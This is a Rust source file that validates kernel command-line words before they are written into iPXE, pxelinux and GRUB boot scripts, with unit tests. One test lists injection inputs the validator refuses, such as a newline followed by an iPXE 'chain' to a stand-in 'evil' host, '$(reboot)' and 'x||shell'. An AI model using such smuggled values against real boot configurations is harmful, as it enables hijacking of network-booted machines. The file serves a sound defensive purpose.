//! Kernel arguments: words that come from tables and go into boot scripts.
//!
//! A table cell is text from a person; a boot script is read by iPXE, pxelinux or GRUB, each
//! with its own idea of quotes, variables and line ends. [`KernelArgs`] only takes words that
//! no loader can misread as anything but a word, so a view may print them as they are.

use crate::error::PlanError;
use std::fmt;

/// Means "the address of the server that the node talks to" until a view knows how its
/// loader writes that: iPXE `${next-server}`, GRUB and pxelinux the address itself.
pub const MY_IP: &str = "!myipfn!";

/// Length of a kernel command line that x86 Linux accepts (`COMMAND_LINE_SIZE`), in bytes.
pub const KERNEL_ARGS_BYTES_MAX: usize = 2047;

/// A kernel command line, word by word.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct KernelArgs(Vec<String>);

impl KernelArgs {
    /// Appends one word.
    ///
    /// # Errors
    /// [`PlanError::Argument`] if a boot loader could read the word as something else, or if
    /// the line becomes longer than a kernel takes.
    pub fn push(&mut self, word: impl Into<String>) -> Result<(), PlanError> {
        let word = word.into();
        if let Some(reason) = misreadable(&word) {
            return Err(PlanError::Argument { word, reason });
        }
        let length: usize = self.0.iter().map(|word| word.len() + 1).sum();
        if length + word.len() > KERNEL_ARGS_BYTES_MAX {
            return Err(PlanError::Argument {
                word,
                reason: "the command line is longer than a kernel takes",
            });
        }
        self.0.push(word);
        Ok(())
    }

    /// Appends `ds=nocloud-net;s=<address>`, where cloud-init finds its files. The `;` is the one character
    /// in a line of ours that GRUB takes for the end of a command; its view quotes it.
    ///
    /// # Errors
    /// As [`KernelArgs::push`], for the address.
    pub fn push_seed(&mut self, address: &str) -> Result<(), PlanError> {
        self.push(address)?;
        if let Some(word) = self.0.last_mut() {
            word.insert_str(0, "ds=nocloud-net;s=");
        }
        Ok(())
    }

    /// Appends the volatile words of an `addkcmdline` cell: words that begin with `R::` are
    /// for installed systems and left out.
    ///
    /// # Errors
    /// As [`KernelArgs::push`].
    pub fn push_cell(&mut self, cell: &str) -> Result<(), PlanError> {
        cell.split(' ')
            .filter(|word| !word.is_empty() && !word.starts_with("R::"))
            .try_for_each(|word| self.push(word))
    }

    /// The words, with [`MY_IP`] in them.
    pub fn words(&self) -> impl Iterator<Item = &str> {
        self.0.iter().map(String::as_str)
    }

    /// The line with [`MY_IP`] replaced by `server`.
    #[must_use]
    pub fn render(&self, server: &str) -> String {
        self.0.join(" ").replace(MY_IP, server)
    }
}

impl fmt::Display for KernelArgs {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0.join(" "))
    }
}

/// Why some loader would not take `word` as one plain word.
fn misreadable(word: &str) -> Option<&'static str> {
    if word.is_empty() {
        return Some("it is empty");
    }
    if !word.bytes().all(|byte| byte.is_ascii_graphic()) {
        return Some("it contains a blank, a control character or a character outside ASCII");
    }
    if word.starts_with('#') {
        return Some("a boot loader would take it and the rest of its line for a comment");
    }
    if word.contains("${") || word.contains("$(") || word.contains('`') {
        return Some("a boot loader would expand it");
    }
    if word.contains(['"', '\'', '\\', '{', '}', ';', '|', '<', '>']) || word.contains("&&") {
        return Some("it contains a character that boot loaders interpret");
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_words_pass_and_the_server_is_filled_in() {
        let mut args = KernelArgs::default();
        args.push(format!("imgurl=http://{MY_IP}:80/install/a.sfs")).unwrap();
        args.push_cell("quiet R::crashkernel=128M  console=ttyS0,115200n8").unwrap();
        assert_eq!(
            args.render("${next-server}"),
            "imgurl=http://${next-server}:80/install/a.sfs quiet console=ttyS0,115200n8"
        );
    }

    #[test]
    fn words_that_break_out_of_a_script_are_refused() {
        for word in [
            "",
            "a b",
            "a\nchain http://evil/",
            "${net0/mac}",
            "$(reboot)",
            "x||shell",
            "x&&shell",
            "a;b",
            "#a",
            "\"",
            "it's",
            "a\\",
            "{",
            "}",
            "naïve",
            "\u{7f}",
        ] {
            assert!(KernelArgs::default().push(word).is_err(), "{word:?} passed");
        }
    }

    #[test]
    fn the_line_is_bounded() {
        let mut args = KernelArgs::default();
        args.push("x".repeat(2000)).unwrap();
        assert!(args.push("y".repeat(100)).is_err());
    }
}
